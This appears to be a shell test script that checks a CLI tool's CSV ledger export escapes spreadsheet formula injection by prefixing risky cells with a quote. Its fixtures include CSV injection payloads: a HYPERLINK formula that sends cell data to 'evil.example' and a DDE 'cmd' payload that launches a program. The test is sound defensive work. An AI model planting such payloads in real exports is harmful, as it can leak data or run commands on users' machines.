#!/bin/sh
# CSV injection (issue 10, #12): text that a spreadsheet would run as a
# formula, starting with '=', '+', '-', '@', a tab or a CR, leaves the CSV
# export with a leading "'" (OWASP's rule); numbers such as -4 stay numbers
# and JSONL keeps every text exactly.
. "$(dirname "$0")/lib.sh"

setup_console
qh() { qh-console "$@" --state "$STATE"; }
NAME='=HYPERLINK("http://evil.example/?"&A1,"Click")'
NOTE="=cmd|' /C calc'!A0"
qh customer add acme --name "$NAME" >"$T/admin.log" 2>&1 || fail "customer add"
qh credit acme --units 9 --ref "@SUM(1+1)" >>"$T/admin.log" 2>&1 || fail "credit"
qh correct 1 --units -4 --reason "$NOTE" >>"$T/admin.log" 2>&1 || fail "correct 1"
qh correct 1 --units -1 --reason "-2+3" >>"$T/admin.log" 2>&1 || fail "correct 2"
TAB=$(printf '\tfoo')
CR=$(printf '\rbar')
qh correct 1 --units -1 --reason "$TAB" >>"$T/admin.log" 2>&1 || fail "correct 3"
qh correct 1 --units -1 --reason "$CR" >>"$T/admin.log" 2>&1 || fail "correct 4"
qh credit acme --units 1 --ref "+49 30 1234" >>"$T/admin.log" 2>&1 || fail "credit 2"

qh ledger --format csv >"$T/ledger.csv" 2>"$T/ledger.log" || fail "ledger csv"
python3 - "$T/ledger.csv" "$NAME" "$NOTE" <<'EOF' || fail "csv: $(cat "$T/ledger.csv")"
import csv, sys
name, note = sys.argv[2], sys.argv[3]
rows = list(csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8")))
assert len(rows) == 6, rows
for r in rows:
    assert r["customer_name"] == "'" + name, r["customer_name"]
    for k, v in r.items():
        try:
            int(v)
            continue  # a number, such as -4
        except ValueError:
            pass
        assert v == "" or v[0] not in "=+-@\t\r", (k, v)
assert rows[0]["reference"] == "'@SUM(1+1)", rows[0]
assert rows[5]["reference"] == "'+49 30 1234", rows[5]
assert [r["note"] for r in rows[1:5]] == ["'" + note, "'-2+3", "'\tfoo", "'\rbar"], rows
# Numbers stay numbers.
assert [r["units"] for r in rows] == ["9", "-4", "-1", "-1", "-1", "1"], rows
assert rows[1]["amount_cents"] == "-12000" and rows[1]["balance_after"] == "5", rows[1]
EOF

qh ledger --format jsonl >"$T/ledger.jsonl" 2>>"$T/ledger.log" || fail "ledger jsonl"
python3 - "$T/ledger.jsonl" "$NAME" "$NOTE" <<'EOF' || fail "jsonl: $(cat "$T/ledger.jsonl")"
import json, sys
name, note = sys.argv[2], sys.argv[3]
rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
assert all(r["customer_name"] == name for r in rows), rows
assert rows[0]["reference"] == "@SUM(1+1)" and rows[5]["reference"] == "+49 30 1234"
assert [r["note"] for r in rows[1:5]] == [note, "-2+3", "\tfoo", "\rbar"], rows
assert rows[1]["units"] == -4
EOF
echo "ok: no formulas in the CSV export"
exit 0
